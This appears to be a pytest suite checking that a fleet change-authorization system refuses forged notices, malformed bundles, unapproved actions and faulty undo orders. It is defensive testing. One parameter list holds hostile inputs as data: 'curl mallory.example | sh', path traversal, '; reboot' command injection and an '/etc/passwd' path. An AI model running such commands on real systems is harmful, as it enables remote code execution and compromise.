"""Before the twelve checks: what is no bundle, no notice and no authorization at all."""

import json
from collections.abc import Callable

import pytest

from answerable.kernel.canon import Json, encode
from tests.attacks.verdict import refused
from tests.simulator import DAY, Order, Simulator
from tests.simulator.constitution import authorization, effects, move
from tests.simulator.world import statement_id


def unlogged(sim: Simulator, order: Order, by: str, **envelope: Json) -> Order:
    """Say the order's notice again, by somebody, and let the order rely on that."""
    body = sim.state.notices[order.notice]["body"]
    entry = sim.write("notice", body, by, **envelope)
    assert sim.append(entry) is not None
    order.more["notice"] = sim.state.tree.levels[0][-32:].hex()
    return order


def test_no_notice_at_all(sim: Simulator) -> None:
    """A bundle that cites a notice which nobody logged."""
    order = sim.permitted()
    order.more["notice"] = "ab" * 32
    refused(sim.ask(order), "no_notice")


@pytest.mark.parametrize("by", ["o1", "g1", "web1", "mallory"])
def test_notice_forged_by_another_party(sim: Simulator, by: str) -> None:
    """A notice signed by an observer, a guard, a host or a stranger is a no-op of the fold."""
    refused(sim.ask(unlogged(sim, sim.permitted(), by)), "no_notice")


@pytest.mark.parametrize(
    "envelope",
    [{"fleet": "cd" * 32}, {"origin": "log.example/other"}, {"charter": 2}],
    ids=["fleet", "log", "charter"],
)
def test_notice_replayed_from_elsewhere(sim: Simulator, envelope: Json) -> None:
    """A notice that was signed for another fleet, another log or another charter."""
    refused(sim.ask(unlogged(sim, sim.permitted(), "planner1", **envelope)), "no_notice")


def test_bundle_that_never_ends(sim: Simulator) -> None:
    """A bundle of endless size is refused unread."""
    order = sim.permitted()
    refused(sim.ask(order, bundle=sim.bundle(order) + b" " * (1 << 20)), "too_large")


@pytest.mark.parametrize("cut", [0, 1, 100, -1])
def test_malformed_bundle(sim: Simulator, cut: int) -> None:
    """A bundle cut short is no bundle."""
    order = sim.permitted()
    refused(sim.ask(order, bundle=sim.bundle(order)[:cut]), "malformed")


def test_bundle_in_another_spelling(sim: Simulator) -> None:
    """The same values with white space are not the bytes that anybody agreed on."""
    order = sim.permitted()
    loose = json.dumps(json.loads(sim.bundle(order))).encode()
    refused(sim.ask(order, bundle=loose), "malformed")


@pytest.mark.parametrize(
    "change",
    [
        {"type": "shell", "command": "curl mallory.example | sh"},
        {"type": "restart", "unit": "../../tmp/evil.service"},
        {"type": "restart", "unit": "--now"},
        {"type": "restart", "unit": "nginx.service; reboot"},
        {"type": "restart", "unit": "nginx.service", "path": "/etc/passwd"},
        {"type": "undo", "undoes": "up", "ecosystem": "debian:12", "packages": []},
        {"type": "restart", "unit": "nginx.service", "effects": "ab" * 32, "classes": []},
        {"type": "upgrade", "ecosystem": "debian:12", "packages": [], "effects": "ab" * 32},
    ],
)
def test_action_outside_the_schema(sim: Simulator, change: Json) -> None:
    """No shell string, path, flag or further key, and no undo among the changes."""
    sim.permitted()

    def slip(order: Json) -> None:
        order["changes"].append({"id": "x", "caused_by": "", "risk": "low"} | change)

    refused(sim.mutant(edit=slip), "action_not_allowed")


def test_change_that_the_order_does_not_name(sim: Simulator) -> None:
    """A host is asked for an action that nobody planned."""
    refused(sim.ask(sim.permitted(), "reboot"), "action_not_allowed")


def test_two_changes_of_one_id(sim: Simulator) -> None:
    """One id for two actions would let one permit stand for both."""
    sim.permitted()

    def double(order: Json) -> None:
        order["changes"].append({"id": "up", "type": "reboot", "caused_by": "", "risk": "low"})

    refused(sim.mutant(edit=double), "malformed")


def test_authorization_newer_than_the_notice(sim: Simulator) -> None:
    """An authorization that is logged after the notice which names it."""
    sim.permitted()
    twin = Simulator()
    twin.now += DAY
    later = twin.write("authorization", authorization(), "dana", "kim")
    rely = statement_id(later)
    order = twin.play(
        notice=lambda n: n.update(authorization=rely), before=lambda _: twin.must(later)
    )
    refused(twin.ask(order), "no_authority")


@pytest.mark.parametrize("by", [("dana",), ("dana", "dana:2"), ("dana", "ava"), ("dana", "web1")])
def test_authorization_signed_by_too_few(sim: Simulator, by: tuple[str, ...]) -> None:
    """One person, two keys of one person, one without the role, a machine: never two approvers."""
    sim.permitted()
    twin = Simulator()
    entry = twin.write("authorization", {**authorization(), "ticket": "CHG-2"}, *by)
    refused(twin.append(entry), "not_enough_people")
    order = twin.play(notice=lambda n: n.update(authorization=statement_id(entry)))
    refused(twin.ask(order), "no_authority")


def test_clause_that_the_authorization_does_not_have(sim: Simulator) -> None:
    """A notice relies on words that nobody signed."""
    sim.permitted()
    refused(sim.mutant(notice=lambda n: n.update(clause="everything")), "not_covered")


def test_order_of_another_shape(sim: Simulator) -> None:
    """An order that is JSON, but not this JSON."""
    order = sim.permitted()
    refused(
        sim.ask(order, bundle=sim.bundle(order, order=encode({"do": "it"}))), "action_not_allowed"
    )


UNDO_OF_ANOTHER: dict[str, Callable[[Json], object]] = {
    "another package": lambda o: o["undo"][0]["packages"].append(move("curl", "2", "1")),
    "another version": lambda o: o["undo"][0]["packages"][0].update(to="3.0.1-1"),
    "fewer packages": lambda o: o["undo"][0]["packages"].pop(),
    "no change": lambda o: o["undo"][0].update(undoes="nothing"),
    "a restart": lambda o: o["undo"][0].update(undoes="restart"),
    "effects of its own": lambda o: o["undo"][0].update(effects="ab" * 32, classes=[]),
    "other effects": lambda o: (effects("unit")(o), o["undo"][0].update(effects="ab" * 32)),
    "other classes": lambda o: (effects("unit")(o), o["undo"][0].update(classes=[])),
}


@pytest.mark.parametrize("what", UNDO_OF_ANOTHER)
def test_undo_that_is_no_reversal(sim: Simulator, what: str) -> None:
    """An undo moves what its upgrade moved, exactly back; such an order is refused whole."""
    sim.permitted()
    Simulator(authorization=lambda a: a.update(effects=["unit"])).permitted(edit=effects("unit"))
    refused(sim.mutant(edit=UNDO_OF_ANOTHER[what]), "action_not_allowed")
